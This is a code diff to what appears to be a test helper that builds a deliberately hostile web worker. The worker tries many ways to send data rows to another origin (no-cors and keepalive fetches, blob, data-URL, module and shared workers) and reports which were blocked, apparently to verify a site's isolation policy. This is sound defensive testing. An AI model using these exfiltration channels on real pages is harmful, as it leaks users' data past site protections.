@@ -1,11 +1,23 @@
+/** What the hostile worker had, and what became of each attempt to send it. */
+export interface Report {
+  rows: string;
+  tried: Record<string, string>;
+}
+
 /**
- * A worker that tries everything it can to send its rows to another origin, and then
- * tells its own server what it tried: that is allowed, and shows that it ran and had the rows.
+ * A worker that tries everything it can to send its rows to another origin, and then reports what it tried,
+ * which shows that it ran and had the rows.
+ * @param report address on its own server, which the site's policy allows; without it the worker is a classic
+ *   script, as in the saved copy, and posts the report to the page
  */
-export function hostileWorker(elsewhere: string, report: string): string {
+export function hostileWorker(elsewhere: string, report?: string): string {
+  const isModule = report !== undefined;
+  const send = isModule
+    ? `fetch(${JSON.stringify(report)}, { method: 'POST', body: JSON.stringify(outcome) })`
+    : 'postMessage(outcome)';
   return `
     const elsewhere = ${JSON.stringify(elsewhere)};
-    const report = ${JSON.stringify(report)};
+    const here = ${isModule ? 'import.meta.url' : 'location.href'};
     const code = (script) => URL.createObjectURL(new Blob([script], { type: 'text/javascript' }));
     const sent = (way, rows) => elsewhere + way + '?rows=' + encodeURIComponent(rows);
     const answered = (target, good) => new Promise((resolve, reject) => {
@@ -17,6 +29,15 @@ export function hostileWorker(elsewhere: string, report: string): string {
       worker.onmessage = resolve;
       worker.onerror = () => reject(new Error('refused'));
     });
+    const firstRows = async ({ kind, blob }) => {
+      if (kind !== 'slices') return (await blob.text()).slice(0, 40);
+      postMessage({ call: 'slice', id: 'rows', args: [0, 40] });
+      return new Promise((resolve) => {
+        addEventListener('message', ({ data: { id, value } }) => {
+          if (id === 'rows') resolve(new TextDecoder().decode(value));
+        });
+      });
+    };
     const ways = {
       fetch: (to, rows) => fetch(to, { method: 'POST', mode: 'no-cors', body: rows }),
       keepalive: (to, rows) => fetch(to, { method: 'POST', mode: 'no-cors', keepalive: true, body: rows }),
@@ -44,18 +65,18 @@ export function hostileWorker(elsewhere: string, report: string): string {
         'fetch(' + JSON.stringify(to) + ', { mode: "no-cors" }).finally(() => postMessage(0))')),
       'worker-from-data': (to) => inOther('data:text/javascript,' + encodeURIComponent(
         'fetch(' + JSON.stringify(to) + ', { mode: "no-cors" }).finally(() => postMessage(0))')),
-      'worker-from-here': (to) => inOther(import.meta.url + '?send=' + encodeURIComponent(to), { type: 'module' }),
+      'worker-from-here': (to) => inOther(here + '?send=' + encodeURIComponent(to), { type: 'module' }),
       'worker-from-there': (to) => inOther(to, { type: 'module' }),
-      'shared-worker': (to) => new SharedWorker(import.meta.url + '?send=' + encodeURIComponent(to), { type: 'module' }),
+      'shared-worker': (to) => new SharedWorker(here + '?send=' + encodeURIComponent(to), { type: 'module' }),
     };
-    const toSend = new URL(import.meta.url).searchParams.get('send');
+    const toSend = new URL(here).searchParams.get('send');
     if (toSend !== null) {
       // The same file as another worker: does its own address free it from the policy?
       fetch(toSend, { mode: 'no-cors' }).finally(() => self.postMessage?.(0));
     }
     addEventListener('message', async ({ data }) => {
       if (data.call !== 'run') return;
-      const rows = (await data.args[0].source.blob.text()).slice(0, 40);
+      const rows = await firstRows(data.args[0].source);
       const late = new Promise((resolve) => setTimeout(resolve, 2000, 'no answer'));
       const tried = {};
       await Promise.all(Object.entries(ways).map(async ([way, act]) => {
@@ -66,7 +87,8 @@ export function hostileWorker(elsewhere: string, report: string): string {
           tried[way] = String(error).slice(0, 80);
         }
       }));
-      await fetch(report, { method: 'POST', body: JSON.stringify({ rows, tried }) });
+      const outcome = { rows, tried };
+      await ${send};
     });
   `;
 }
